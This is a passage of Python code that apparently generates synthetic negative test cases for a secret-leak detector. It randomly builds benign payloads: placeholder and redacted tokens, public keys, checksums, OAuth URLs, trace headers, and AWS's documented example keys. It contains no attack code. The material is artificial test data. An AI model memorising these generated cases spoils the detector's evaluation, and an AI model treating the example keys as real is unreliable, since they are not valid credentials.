        lambda c: N(c, 'hostname', f'{pick(["lhr", "fra", "iad", "sfo"])}{R.randint(10, 99)}s{R.randint(10, 60)}-in-f{R.randint(1, 20)}.1e100.net'),
        lambda c: N(c, 'hostname', f'{cid_v1()}.ipfs.dweb.link'),
        lambda c: N(c, 'hostname', f'{pick(APPS)}-{rs(10, LOW + DIG)}-{pick(["uc", "ew", "an"])}.a.run.app'),
        lambda c: N(c, 'hostname', f'e{R.randint(1000, 99999)}.dscb.akamaiedge.net'),
        lambda c: N(c, 'hostname', f'{rs(20, LOW)}.supabase.co'),
    ])


def neg_docs(cat):
    cycle(cat, 12, [
        lambda c: N(c, 'body', json.dumps({'path': 'docs/auth.md', 'content': '# Authentication\n\nCreate a personal access token under *Settings > Developer settings*. Classic tokens start with the prefix `ghp_`, fine-grained tokens with `github_pat_`. Export it as `GITHUB_TOKEN` and never commit it to the repository.\n'}), 'application/json'),
        lambda c: N(c, 'body', '<h2>Authentication</h2><p>Send your key in the <code>Authorization</code> header using the Bearer scheme, e.g. <code>Authorization: Bearer &lt;token&gt;</code>. Keys can be rotated in the dashboard at any time.</p>', 'text/html'),
        lambda c: N(c, 'body', chat_json('What is the difference between an AWS access key ID and a secret access key, and where should a CI pipeline store them?'), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'body': 'Please do not paste API keys into issues. If you leaked one, revoke it immediately in the console and create a new one; we will never ask you for your password.'}), 'application/json'),
        lambda c: N(c, 'body', ('## Example credentials file\n\nThe AWS documentation uses the following example values, which are not valid keys:\n\n```\n[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n'
                                'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n```\n'), 'text/markdown'),
        lambda c: N(c, 'body', 'openapi: 3.0.3\ninfo:\n  title: Orders API\n  version: 1.4.0\ncomponents:\n  securitySchemes:\n    bearerAuth:\n      type: http\n      scheme: bearer\n      bearerFormat: JWT\n    apiKeyAuth:\n      type: apiKey\n      in: header\n      name: X-API-Key\nsecurity:\n  - bearerAuth: []\n', 'application/yaml'),
        lambda c: N(c, 'body', 'GH-AUTH-LOGIN(1)\n\nNAME\n  gh auth login - log in to a GitHub account\n\nOPTIONS\n  --with-token   Read token from standard input\n\nEXAMPLES\n  $ gh auth login --with-token < mytoken.txt\n', 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'title': 'Token types', 'text': 'Bot tokens begin with xoxb-, user tokens with xoxp- and app-level tokens with xapp-. Store them in a secrets manager; they grant access to your workspace.'}), 'application/json'),
        lambda c: N(c, 'body', chat_json('Explain the structure of a JWT: what goes in the header, the payload and the signature, and why the payload is not encrypted.'), 'application/json'),
        lambda c: N(c, 'body', '# Security Policy\n\nWe run secret scanning on every push. If a credential is detected the push is blocked and the owner is notified. Report vulnerabilities to security@' + pick(CORP) + '.\n', 'text/markdown'),
        lambda c: N(c, 'body', '## 2.3.0\n\n- Stripe keys are now loaded from Vault path `secret/data/stripe` instead of environment variables.\n- Rotated all webhook signing secrets.\n- Removed the deprecated `--password` flag; use `--password-stdin`.\n', 'text/markdown'),
        lambda c: N(c, 'body', f'Subject: Your password was changed\r\nFrom: no-reply@{pick(CORP)}\r\nTo: {person()[2]}\r\n\r\nThe password for your account was changed on {iso()[:10]}. If this was not you, reset it from the sign-in page.\r\n', 'message/rfc822'),
    ])


def neg_placeholder(cat):
    cycle(cat, 14, [
        lambda c: N(c, 'body', 'OPENAI_API_KEY=<YOUR_API_KEY>\nGITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nSTRIPE_SECRET_KEY=sk_live_...\n', 'text/plain'),
        lambda c: N(c, 'body', 'service:\n  api_key: "${API_KEY}"\n  password: "{{ .Values.db.password }}"\n  token: !env TOKEN\n', 'application/yaml'),
        lambda c: N(c, 'body', 'jobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n', 'application/yaml'),
        lambda c: N(c, 'header', 'Authorization: Bearer ${TOKEN}'),
        lambda c: N(c, 'header', 'Authorization: Bearer <token>'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v1/data?api_key=YOUR_API_KEY&format=json'),
        lambda c: N(c, 'url', f'https://USERNAME:PASSWORD@git.{pick(CORP)}/scm/{pick(REPOS)}.git'),
        lambda c: N(c, 'body', json.dumps({'aws_access_key_id': 'AKIAXXXXXXXXXXXXXXXX', 'aws_secret_access_key': 'x' * 40, 'region': 'us-east-1'}), 'application/json'),
        lambda c: N(c, 'body', 'DATABASE_URL=postgres://user:password@localhost:5432/dbname\nREDIS_URL=redis://localhost:6379/0\nSECRET_KEY=change-this-to-a-long-random-string\n', 'text/plain'),
        lambda c: N(c, 'body', urlencode([('username', ''), ('password', ''), ('remember', '0')]), 'application/x-www-form-urlencoded'),
        lambda c: N(c, 'body', json.dumps({'token': '<insert token here>', 'secret': 'REPLACE_ME', 'endpoint': f'https://api.{pick(CORP)}'}), 'application/json'),
        lambda c: N(c, 'body', 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db-credentials\ntype: Opaque\ndata:\n  username: <base64-encoded-username>\n  password: <base64-encoded-password>\n', 'application/yaml'),
        lambda c: N(c, 'body', '<server>\n  <id>deploy</id>\n  <username>${env.DEPLOY_USER}</username>\n  <password>${env.DEPLOY_PASSWORD}</password>\n</server>\n', 'application/xml'),
        lambda c: N(c, 'body', chat_json("Why does this fail in CI?\n\ncurl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n\nit prints 'Bad credentials'."), 'application/json'),
    ])


def neg_redacted(cat):
    cycle(cat, 12, [
        lambda c: N(c, 'body', json.dumps({'name': 'prod', 'api_key': 'sk-proj-' + '*' * 28 + rs(4), 'created': iso()}), 'application/json'),
        lambda c: N(c, 'body', f'{iso(ms=True)} DEBUG request headers: Authorization: Bearer [REDACTED]\n{iso(ms=True)} DEBUG login user={pick(USERS)} password=******\n', 'text/plain'),
        lambda c: N(c, 'header', 'X-Api-Key: REDACTED'),
        lambda c: N(c, 'url', f'https://{pick(USERS)}:***@nexus.{pick(CORP)}/repository/releases/'),
        lambda c: N(c, 'body', json.dumps({'event_id': rhex(32), 'request': {'headers': {'Authorization': '[Filtered]', 'Cookie': '[Filtered]'}, 'data': {'password': '[Filtered]'}}}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'payment_method': {'card': {'brand': 'visa', 'number': '**** **** **** ' + rs(4, DIG), 'exp': '**/**'}}}), 'application/json'),
        lambda c: N(c, 'body', 'GITHUB_TOKEN=ghp_' + '*' * 36 + '\nAWS_SECRET_ACCESS_KEY=****************************************\nHOME=/home/runner\n', 'text/plain'),
        lambda c: N(c, 'body', "database:\n  host: db.internal\n  user: app\n  password: '<redacted>'\n", 'application/yaml'),
        lambda c: N(c, 'body', f'Run ./deploy.sh\n  env:\n    API_TOKEN: ***\n    DEPLOY_KEY: ***\nDeploying to {pick(ENVS)}... done\n', 'text/plain'),
        lambda c: N(c, 'body', f'Subject: API key rotated\r\nTo: {person()[2]}\r\n\r\nYour key ending in ...{rs(4, LOW + DIG)} was rotated. The old key stops working in 24 hours.\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', json.dumps({'beneficiary': {'name': 'ACME GmbH', 'iban': 'DE** **** **** **** **' + rs(2, DIG) + ' ' + rs(2, DIG)}}), 'application/json'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v1/session?token=%5BREDACTED%5D&user={pick(USERS)}'),
    ])


def spki_rsa():
    n = bytearray(rb(256))
    n[0] |= 0x80
    return der(0x30, der(0x30, der(0x06, bytes.fromhex('2a864886f70d010101')) + b'\x05\x00')
               + der(0x03, b'\x00' + der(0x30, der(0x02, b'\x00' + bytes(n)) + der(0x02, b'\x01\x00\x01'))))


def neg_pubkey(cat):
    cycle(cat, 12, [
        lambda c: N(c, 'body', json.dumps({'title': f'{pick(USERS)}-laptop', 'key': ssh_pub_ed25519() + f' {pick(USERS)}@{pick(["mbp", "thinkpad", "desk"])}'}), 'application/json'),
        lambda c: N(c, 'body', ''.join(f'{pick([ssh_pub_ed25519(), ssh_pub_rsa()])} {u}@{pick(CORP)}\n' for u in R.sample(USERS, 3)), 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'keys': [{'kty': 'RSA', 'kid': rs(22, B64U), 'use': 'sig', 'alg': 'RS256', 'n': b64u(rb(256)), 'e': 'AQAB', 'x5c': [b64(fake_cert_der())]}]}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'kty': 'EC', 'crv': 'P-256', 'x': b64u(rb(32)), 'y': b64u(rb(32)), 'use': 'enc', 'kid': rhex(8)}), 'application/json'),
        lambda c: N(c, 'body', '# team recipients\n' + ''.join(age_keys()[1] + '\n' for _ in range(3)), 'text/plain'),
        lambda c: N(c, 'body', f'[Peer]\nPublicKey = {b64(rb(32))}\nAllowedIPs = 10.8.0.{R.randint(2, 250)}/32\nEndpoint = vpn.{pick(CORP)}:51820\nPersistentKeepalive = 25\n', 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'id': b64u(rb(32)), 'rawId': b64u(rb(32)), 'type': 'public-key', 'response': {'attestationObject': b64u(rb(R.randint(200, 300))),
                                                                                                                 'clientDataJSON': b64u(json.dumps({'type': 'webauthn.create', 'challenge': b64u(rb(32)), 'origin': 'https://' + pick(CORP)}))}}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'certificate_chain_der_b64': [b64(fake_cert_der())], 'hostname': 'api.' + pick(CORP)}), 'application/json'),
        lambda c: N(c, 'body', f'github.com {ssh_pub_ed25519()}\ngitlab.com {ssh_pub_ed25519()}\n[10.0.0.{R.randint(2, 250)}]:2222 {ssh_pub_rsa()}\n', 'text/plain'),
        lambda c: N(c, 'body', f'untrusted comment: minisign public key {rs(16, HEXU)}\nRWQ{b64(rb(39))}\n', 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'npub': bech32_encode('npub', convertbits(rb(32), 8, 5)), 'relays': ['wss://relay.damus.io']}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'name': f'selector1._domainkey.{pick(CORP)}', 'type': 'TXT', 'content': 'v=DKIM1; k=rsa; p=' + b64(spki_rsa())}), 'application/json'),
    ])


def neg_checksum(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', ''.join(f'{rhex(64)}  {pick(APPS)}_{semver()}_{a}.tar.gz\n' for a in ['linux_amd64', 'linux_arm64', 'darwin_arm64']), 'text/plain'),
        lambda c: N(c, 'body', ''.join(f'{p}=={semver()} \\\n    --hash=sha256:{rhex(64)}\n' for p in ['requests', 'urllib3', 'idna']), 'text/plain'),
        lambda c: N(c, 'body', ''.join(f'github.com/{o}/{r} v{semver()} h1:{b64(rb(32))}\ngithub.com/{o}/{r} v{semver()}/go.mod h1:{b64(rb(32))}\n' for o, r in [(pick(ORGS), pick(REPOS)) for _ in range(2)]), 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'packages': {f'node_modules/{p}': {'version': semver(), 'resolved': f'https://registry.npmjs.org/{p}/-/{p}-1.0.0.tgz', 'integrity': 'sha512-' + b64(rb(64))} for p in ['ms', 'debug', 'chalk']}}), 'application/json'),
        lambda c: N(c, 'header', f'Content-MD5: {b64(rb(16))}'),
        lambda c: N(c, 'header', f'x-goog-hash: crc32c={b64(rb(4))},md5={b64(rb(16))}'),
        lambda c: N(c, 'header', f'Digest: sha-256={b64(rb(32))}'),
        lambda c: N(c, 'header', f'x-amz-checksum-sha256: {b64(rb(32))}'),
        lambda c: N(c, 'body', f'class Tool < Formula\n  desc "CLI"\n  url "https://github.com/{pick(ORGS)}/tool/archive/v{semver()}.tar.gz"\n  sha256 "{rhex(64)}"\nend\n', 'text/plain'),
        lambda c: N(c, 'body', ''.join(f'[[package]]\nname = "{p}"\nversion = "{semver()}"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "{rhex(64)}"\n\n' for p in ['serde', 'tokio']), 'text/plain'),
    ])


def neg_version(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'header', f'User-Agent: {ua()}'),
        lambda c: N(c, 'header', f'User-Agent: aws-cli/2.15.{R.randint(10, 40)} Python/3.11.8 Linux/6.5.0-1016-aws exe/x86_64.ubuntu.22 prompt/off command/s3.cp'),
        lambda c: N(c, 'body', json.dumps({'name': pick(APPS), 'version': semver(), 'dependencies': {'react': '^18.3.1', 'next': '14.2.3', 'zod': '3.23.8'}, 'devDependencies': {'typescript': '5.4.5'}}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'version': f'{semver()}-rc.{R.randint(1, 5)}+build.{iso()[:10].replace("-", "")}.{rhex(7)}', 'channel': 'beta'}), 'application/json'),
        lambda c: N(c, 'url', f'https://registry.npmjs.org/@babel%2fcore/-/core-7.24.{R.randint(0, 9)}.tgz'),
        lambda c: N(c, 'url', f'https://github.com/{pick(ORGS)}/{pick(REPOS)}/releases/download/v{semver()}/tool_{semver()}_linux_amd64.tar.gz'),
        lambda c: N(c, 'header', f'X-Client-Version: {semver()} (build {iso()[:10].replace("-", "")}.{R.randint(1000, 9999)})'),
        lambda c: N(c, 'body', ''.join(f'{p}=={semver()}\n' for p in ['Django', 'celery', 'redis', 'boto3', 'numpy']), 'text/plain'),
        lambda c: N(c, 'header', f'sec-ch-ua-full-version-list: "Chromium";v="124.0.{R.randint(6000, 6500)}.91", "Google Chrome";v="124.0.{R.randint(6000, 6500)}.91", "Not-A.Brand";v="99.0.0.0"'),
        lambda c: N(c, 'body', "dependencies {\n    implementation 'org.springframework.boot:spring-boot-starter-web:3.2.5'\n    implementation 'com.fasterxml.jackson.core:jackson-databind:2.17.1'\n    testImplementation 'org.junit.jupiter:junit-jupiter:5.10.2'\n}\n", 'text/plain'),
    ])


def neg_timestamp(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'header', f'Date: {rfc2822()}'),
        lambda c: N(c, 'header', f'If-Modified-Since: {rfc2822()}'),
        lambda c: N(c, 'body', json.dumps([{'event': pick(['login', 'view', 'purchase']), 'created_at': iso(ms=True), 'ts_ms': epoch() * 1000 + R.randint(0, 999)} for _ in range(4)]), 'application/json'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v1/metrics?since={quote(iso())}&until={quote(iso())}&step=60s'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v1/logs?start={epoch()}&end={epoch()}'),
        lambda c: N(c, 'body', 'timestamp,temp_c,humidity\n' + ''.join(f'{iso(epoch())},{R.randint(150, 300) / 10},{R.randint(20, 90)}\n' for _ in range(5)), 'text/csv'),
        lambda c: N(c, 'body', ''.join(f'http_requests_total{{method="GET",code="200"}} {R.randint(100, 99999)} {epoch() * 1000}\n' for _ in range(3)), 'text/plain'),
        lambda c: N(c, 'body', f'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:{ruuid()}@{pick(CORP)}\r\nDTSTAMP:{iso().replace("-", "").replace(":", "")}\r\nDTSTART:{iso().replace("-", "").replace(":", "")}\r\nSUMMARY:Sprint review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n', 'text/calendar'),
        lambda c: N(c, 'body', ''.join(f'<14>1 {iso(ms=True)} web-{R.randint(1, 9)} nginx {R.randint(100, 9999)} - - GET /healthz 200\n' for _ in range(3)), 'text/plain'),
        lambda c: N(c, 'header', f'X-Amz-Date: {iso().replace("-", "").replace(":", "")}'),
    ])


def neg_lorem(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps({'title': lorem_sentence(3, 6), 'body': lorem_para(), 'tags': R.sample(LOREM, 3)}), 'application/json'),
        lambda c: N(c, 'body', lorem_para(6) + '\n\n' + lorem_para(4) + '\n', 'text/plain'),
        lambda c: N(c, 'body', f'# {lorem_sentence(2, 4)}\n\n{lorem_para()}\n\n- {lorem_sentence()}\n- {lorem_sentence()}\n', 'text/markdown'),
        lambda c: N(c, 'body', f'<article><h1>{lorem_sentence(2, 5)}</h1><p>{lorem_para()}</p></article>', 'text/html'),
        lambda c: N(c, 'body', urlencode([('author', pick(USERS)), ('comment', lorem_para(2))]), 'application/x-www-form-urlencoded'),
        lambda c: N(c, 'body', chat_json('Summarize the following text in two sentences:\n\n' + lorem_para(5)), 'application/json'),
        lambda c: N(c, 'body', f'Subject: {lorem_sentence(2, 4)}\r\nFrom: {person()[2]}\r\n\r\n{lorem_para()}\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', f'<?xml version="1.0"?><rss version="2.0"><channel><title>Blog</title><item><title>{lorem_sentence(2, 4)}</title><description>{lorem_para(2)}</description></item></channel></rss>', 'application/rss+xml'),
        lambda c: N(c, 'body', f'---\ntitle: "{lorem_sentence(2, 4)}"\ndate: {iso()[:10]}\n---\n\n{lorem_para()}\n', 'text/markdown'),
        lambda c: N(c, 'body', 'id,text\n' + ''.join(f'{i},"{lorem_sentence()}"\n' for i in range(4)), 'text/csv'),
    ])


def neg_compressed(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps([{'sku': rs(8, UP + DIG), 'name': f'{pick(WORDS).capitalize()} mug', 'price': R.randint(5, 50)} for _ in range(20)]), 'application/json', 'gzip'),
        lambda c: N(c, 'body', ''.join(json.dumps({'metric': 'cpu', 'host': f'web-{i}', 'value': R.random()}) + '\n' for i in range(15)), 'application/x-ndjson', 'deflate'),
        lambda c: N(c, 'body', 'date,visits,signups\n' + ''.join(f'2024-0{R.randint(1, 9)}-{R.randint(10, 28)},{R.randint(100, 9999)},{R.randint(0, 99)}\n' for _ in range(30)), 'text/csv', 'gzip'),
        lambda c: N(c, 'body', f'<html><body><h1>{lorem_sentence(2, 4)}</h1>' + ''.join(f'<p>{lorem_para(2)}</p>' for _ in range(4)) + '</body></html>', 'text/html', 'gzip'),
        lambda c: N(c, 'body', json.dumps({'query': '{ products(first: 20) { edges { node { id title } } } }'}), 'application/json', 'deflate'),
        lambda c: N(c, 'body', ''.join(f'{iso(ms=True)} INFO request completed path=/api/items status=200 duration_ms={R.randint(3, 400)}\n' for _ in range(25)), 'text/plain', 'gzip'),
        lambda c: N(c, 'body', '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">' + ''.join(f'<url><loc>https://www.{pick(CORP)}/{pick(WORDS)}/{i}</loc><lastmod>{iso()[:10]}</lastmod></url>' for i in range(25)) + '</urlset>', 'application/xml', 'gzip'),
        lambda c: N(c, 'body', json.dumps({'theme': 'dark', 'locale': 'de-DE', 'notifications': {'email': True, 'push': False}, 'shortcuts': {str(i): pick(WORDS) for i in range(10)}}), 'application/json', 'deflate'),
        lambda c: N(c, 'body', json.dumps({'batch': [{'type': 'track', 'event': pick(['Clicked', 'Viewed']), 'anonymousId': ruuid(), 'timestamp': iso()} for _ in range(12)]}), 'application/json', 'gzip'),
        lambda c: N(c, 'body', f'# {lorem_sentence(2, 4)}\n\n' + '\n\n'.join(lorem_para() for _ in range(4)), 'text/markdown', 'gzip'),
    ])


def code_payload(code, fname):
    k = R.randint(0, 2)
    if k == 0:
        return json.dumps({'files': {fname: {'content': code}}, 'public': False}), 'application/json'
    if k == 1:
        return json.dumps({'path': fname, 'diff_hunk': code, 'body': 'Looks good, minor nit on naming.'}), 'application/json'
    return chat_json(f'Review this code for bugs:\n\n```\n{code}```'), 'application/json'


def neg_code(cat):
    snippets = [
        ('client.py', 'import os\nimport requests\n\nAPI_KEY = os.environ["OPENAI_API_KEY"]\n\ndef ask(q):\n    r = requests.post(URL, headers={"Authorization": f"Bearer {API_KEY}"}, json={"q": q})\n    r.raise_for_status()\n    return r.json()\n'),
        ('api.ts', 'export async function getUser(id: string) {\n  const res = await fetch(`/api/users/${id}`, {\n    headers: { Authorization: `Bearer ${process.env.API_TOKEN}` },\n  });\n  return res.json();\n}\n'),
        ('main.go', 'package main\n\nimport (\n\t"fmt"\n\t"os"\n)\n\nfunc main() {\n\ttoken := os.Getenv("GITHUB_TOKEN")\n\tif token == "" {\n\t\tfmt.Println("GITHUB_TOKEN not set")\n\t\tos.Exit(1)\n\t}\n}\n'),
        ('deploy.sh', '#!/bin/sh\nset -e\n: "${DEPLOY_TOKEN:?must be set}"\ncurl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" "$DEPLOY_URL/hooks/release"\n'),
        ('DbConfig.java', '@Configuration\npublic class DbConfig {\n    @Value("${db.password}")\n    private String password;\n\n    @Value("${db.url}")\n    private String url;\n}\n'),
        ('main.rs', 'fn main() {\n    let key = std::env::var("API_KEY").expect("API_KEY must be set");\n    println!("key length: {}", key.len());\n}\n'),
        ('main.tf', 'resource "aws_db_instance" "main" {\n  engine   = "postgres"\n  username = var.db_username\n  password = var.db_password\n}\n\nvariable "db_password" {\n  type      = string\n  sensitive = true\n}\n'),
        ('auth.py', 'import bcrypt\n\ndef check_password(password: str, hashed: bytes) -> bool:\n    return bcrypt.checkpw(password.encode(), hashed)\n\ndef hash_password(password: str) -> bytes:\n    return bcrypt.hashpw(password.encode(), bcrypt.gensalt(rounds=12))\n'),
        ('types.ts', 'export interface Credentials {\n  apiKey: string;\n  secret: string;\n  token?: string;\n}\n\nexport const emptyCredentials: Credentials = { apiKey: "", secret: "" };\n'),
        ('crypto_util.py', 'import hashlib, secrets\n\ndef new_token() -> str:\n    return secrets.token_urlsafe(32)\n\ndef digest(data: bytes) -> str:\n    return hashlib.sha256(data).hexdigest()\n'),
    ]
    order = list(range(len(snippets)))
    R.shuffle(order)
    for i in range(10):
        fn, code = snippets[order[i]]
        p, ct = code_payload(code, fn)
        N(cat, 'body', p, ct)


def neg_analytics(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps({'type': 'track', 'event': 'Order Completed', 'anonymousId': ruuid(), 'messageId': ruuid(), 'properties': {'revenue': R.randint(10, 500), 'currency': 'USD'}, 'timestamp': iso(ms=True)}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'client_id': f'{rdig(10)}.{epoch()}', 'events': [{'name': 'page_view', 'params': {'page_location': f'https://www.{pick(CORP)}/docs', 'engagement_time_msec': R.randint(100, 9000)}}]}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'sessionId': ruuid(), 'view': {'url': f'https://app.{pick(CORP)}/'}, 'metrics': {'LCP': R.randint(800, 4000), 'CLS': round(R.random() / 5, 3), 'INP': R.randint(40, 400)}}), 'application/json'),
        lambda c: N(c, 'url', f'https://collector.{pick(CORP)}/com.snowplowanalytics.snowplow/tp2?e=ue&ue_px={b64u(json.dumps({"schema": "iglu:com.snowplowanalytics.snowplow/unstruct_event/jsonschema/1-0-0", "data": {"schema": "iglu:com.acme/click/jsonschema/1-0-0", "data": {"target": "signup"}}}))}&tv=js-3.23.0&p=web'),
        lambda c: N(c, 'body', json.dumps({'resourceSpans': [{'scopeSpans': [{'spans': [{'traceId': rhex(32), 'spanId': rhex(16), 'name': 'GET /api/items', 'startTimeUnixNano': str(epoch() * 10 ** 9), 'endTimeUnixNano': str(epoch() * 10 ** 9 + 5 * 10 ** 6)}]}]}]}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'n': 'pageview', 'u': f'https://www.{pick(CORP)}/pricing', 'd': pick(CORP), 'r': 'https://www.google.com/'}), 'text/plain'),
        lambda c: N(c, 'url', f'https://analytics.{pick(CORP)}/matomo.php?idsite={R.randint(1, 9)}&rec=1&_id={rhex(16)}&rand={R.randint(10 ** 5, 10 ** 6)}&url={quote("https://" + pick(CORP) + "/", safe="")}&res=1920x1080'),
        lambda c: N(c, 'body', json.dumps({'events': [{'event_type': 'button_click', 'device_id': ruuid(), 'session_id': epoch() * 1000, 'event_properties': {'button': 'checkout'}}]}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'t': 'event', 'ec': 'video', 'ea': 'play', 'cid': ruuid(), 'ul': 'en-us', 'sr': '1440x900'}), 'application/json'),
        lambda c: N(c, 'body', ''.join(json.dumps({'ts': epoch() * 1000, 'type': pick(['click', 'scroll', 'input']), 'target': f'#{pick(WORDS)}', 'x': R.randint(0, 1400), 'y': R.randint(0, 900)}) + '\n' for _ in range(6)), 'application/x-ndjson'),
    ])


def pkce():
    return b64u(hashlib.sha256(rs(64, B64U).encode()).digest())


def neg_oauth(cat):
    ru = lambda: quote(f'https://app.{pick(CORP)}/oauth/callback', safe='')
    cycle(cat, 10, [
        lambda c: N(c, 'url', f'https://accounts.google.com/o/oauth2/v2/auth?client_id={rdig(12)}-{rs(32, LOW + DIG)}.apps.googleusercontent.com&redirect_uri={ru()}&response_type=code&scope=openid%20email%20profile&state={rs(32, B64U)}&nonce={rs(24, B64U)}&code_challenge={pkce()}&code_challenge_method=S256'),
        lambda c: N(c, 'url', f'https://github.com/login/oauth/authorize?client_id=Iv1.{rhex(16)}&redirect_uri={ru()}&scope=read%3Auser&state={rhex(32)}'),
        lambda c: N(c, 'url', f'https://login.microsoftonline.com/{ruuid()}/oauth2/v2.0/authorize?client_id={ruuid()}&response_type=code&redirect_uri={ru()}&response_mode=query&scope=openid%20offline_access&state={rdig(5)}&code_challenge={pkce()}&code_challenge_method=S256'),
        lambda c: N(c, 'url', f'https://{pick(ORGS)}.okta.com/oauth2/default/v1/authorize?client_id=0oa{rs(17)}&response_type=code&scope=openid&redirect_uri={ru()}&state={rs(20, LOW + DIG)}'),
        lambda c: N(c, 'url', f'https://{pick(ORGS)}.eu.auth0.com/authorize?response_type=code&client_id={rs(32)}&redirect_uri={ru()}&scope=openid%20profile&state={b64u(json.dumps({"returnTo": "/dashboard"}))}&code_challenge={pkce()}&code_challenge_method=S256'),
        lambda c: N(c, 'url', f'https://slack.com/oauth/v2/authorize?client_id={rdig(12)}.{rdig(13)}&scope=chat%3Awrite%2Cchannels%3Aread&redirect_uri={ru()}&state={rs(24)}'),
        lambda c: N(c, 'body', json.dumps({'issuer': f'https://auth.{pick(CORP)}', 'authorization_endpoint': f'https://auth.{pick(CORP)}/authorize', 'token_endpoint': f'https://auth.{pick(CORP)}/oauth/token',
                                           'jwks_uri': f'https://auth.{pick(CORP)}/.well-known/jwks.json', 'response_types_supported': ['code'], 'code_challenge_methods_supported': ['S256']}), 'application/json'),
        lambda c: N(c, 'url', f'https://sso.{pick(CORP)}/realms/{pick(ENVS)}/protocol/openid-connect/auth?client_id={pick(APPS)}&redirect_uri={ru()}&response_type=code&scope=openid&state={ruuid()}&nonce={ruuid()}'),
        lambda c: N(c, 'url', f'https://accounts.spotify.com/authorize?client_id={rhex(32)}&response_type=code&redirect_uri={ru()}&code_challenge_method=S256&code_challenge={pkce()}'),
        lambda c: N(c, 'body', json.dumps({'client_name': f'{pick(APPS)} CLI', 'redirect_uris': ['http://127.0.0.1:8765/callback'], 'grant_types': ['authorization_code', 'refresh_token'], 'token_endpoint_auth_method': 'none'}), 'application/json'),
    ])


def neg_trace(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'header', f'traceparent: 00-{rhex(32)}-{rhex(16)}-01'),
        lambda c: N(c, 'header', f'tracestate: dd=s:1;o:rum;t.dm:-0,congo=t61rcWkgMzE'),
        lambda c: N(c, 'header', f'X-B3-TraceId: {rhex(32)}'),
        lambda c: N(c, 'header', f'b3: {rhex(32)}-{rhex(16)}-1-{rhex(16)}'),
        lambda c: N(c, 'header', f'X-Amzn-Trace-Id: Root=1-{format(epoch(), "x")}-{rhex(24)};Parent={rhex(16)};Sampled=1'),
        lambda c: N(c, 'header', f'X-Cloud-Trace-Context: {rhex(32)}/{digits_not_luhn(19, "1")};o=1'),
        lambda c: N(c, 'header', f'sentry-trace: {rhex(32)}-{rhex(16)}-1'),
        lambda c: N(c, 'header', f'x-datadog-trace-id: {digits_not_luhn(19, "1")}'),
        lambda c: N(c, 'header', f'uber-trace-id: {rhex(16)}:{rhex(16)}:0:1'),
        lambda c: N(c, 'header', f'Request-Id: |{rhex(32)}.{rhex(16)}.'),
    ])


def neg_cloudres(cat):
    acct = lambda: rdig(12)
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps({'RoleArn': f'arn:aws:iam::{acct()}:role/{pick(APPS)}-deploy', 'TopicArn': f'arn:aws:sns:us-east-1:{acct()}:alerts', 'QueueUrl': f'https://sqs.us-east-1.amazonaws.com/{acct()}/jobs'}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'Reservations': [{'Instances': [{'InstanceId': 'i-0' + rhex(16), 'ImageId': 'ami-0' + rhex(16), 'SubnetId': 'subnet-0' + rhex(16), 'VpcId': 'vpc-0' + rhex(16), 'SecurityGroups': [{'GroupId': 'sg-0' + rhex(16)}]}]}]}), 'application/json'),
        lambda c: N(c, 'header', f'x-amz-id-2: {b64(rb(57))}'),
        lambda c: N(c, 'header', f'x-amz-request-id: {rs(16, HEXU)}'),
        lambda c: N(c, 'url', f'https://management.azure.com/subscriptions/{ruuid()}/resourceGroups/rg-{pick(ENVS)}/providers/Microsoft.Compute/virtualMachines/vm-{pick(APPS)}?api-version=2023-09-01'),
        lambda c: N(c, 'url', f'https://compute.googleapis.com/compute/v1/projects/{pick(REPOS)}-{rdig(6)}/zones/us-central1-a/instances/{pick(APPS)}-{rs(4, LOW + DIG)}'),
        lambda c: N(c, 'url', f'https://{pick(ORGS)}-uploads.s3.amazonaws.com/videos/{pick(WORDS)}.mp4?partNumber={R.randint(1, 40)}&uploadId={rs(R.randint(80, 110), B64U)}'),
        lambda c: N(c, 'body', urlencode([('Action', 'DeleteMessage'), ('QueueUrl', f'https://sqs.us-east-1.amazonaws.com/{acct()}/jobs'), ('ReceiptHandle', 'AQEB' + b64(rb(R.randint(150, 250)))), ('Version', '2012-11-05')]), 'application/x-www-form-urlencoded'),
